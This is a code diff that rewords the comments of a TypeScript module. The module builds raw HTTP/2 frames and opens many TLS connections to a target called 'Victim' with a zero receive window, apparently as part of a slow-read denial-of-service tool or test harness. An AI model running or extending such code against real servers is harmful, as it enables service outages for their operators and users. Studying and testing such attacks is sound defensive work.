@@ -4,14 +4,14 @@ import { connect as connectTls } from "node:tls";
 import type { Tally, Victim } from "./types.ts";
 
 const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-/** Types of frames (RFC 9113, section 6). */
+/** Frame types (RFC 9113, section 6). */
 export const Type = { headers: 1, rstStream: 3, settings: 4, ping: 6, windowUpdate: 8 } as const;
-/** Flags of a request without a body, whose head is whole. */
+/** Flags for a request without a body and with a complete head. */
 const WHOLE = 0x5;
-/** What the visitor says of itself: no stream is sent anything before it asks for more. */
+/** SETTINGS with a zero window: the server may send no body before an update. */
 const NO_WINDOW = Buffer.of(0, 4, 0, 0, 0, 0);
 
-/** A frame's bytes. */
+/** Returns a frame. */
 export function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
   const head = Buffer.alloc(9);
   head.writeUIntBE(payload.length, 0, 3);
@@ -21,15 +21,17 @@ export function frame(type: number, flags: number, stream: number, payload: Uint
   return Buffer.concat([head, payload]);
 }
 
-/** A GET, all of it in fields of their own (RFC 7541, section 6.2.2). */
+/** Returns a GET with all fields as literals (RFC 7541, section 6.2.2). */
 export function get({ host }: Victim, path: string, stream: number): Buffer {
   const literal = (index: number, value: string) => [index, value.length, ...Buffer.from(value)];
-  // GET and https are in the static table, as are the names of path and authority.
+  // GET and https are in the static table, and so are the names for path and authority.
   const block = Buffer.from([0x82, 0x87, ...literal(0x04, path), ...literal(0x01, host)]);
   return frame(Type.headers, WHOLE, stream, block);
 }
 
-/** Opens a connection in TLS from an address of the given number, with streams that take nothing. Null when it is refused. */
+/**
+ * Opens a TLS connection from a numbered address, with streams that accept no data. Returns null when it is refused.
+ */
 export function dialHttp2(victim: Victim, address: number, tally: Tally): Promise<Socket | null> {
   return new Promise((resolve) => {
     const localAddress = `127.0.${1 + (address >> 8)}.${address & 255}`;
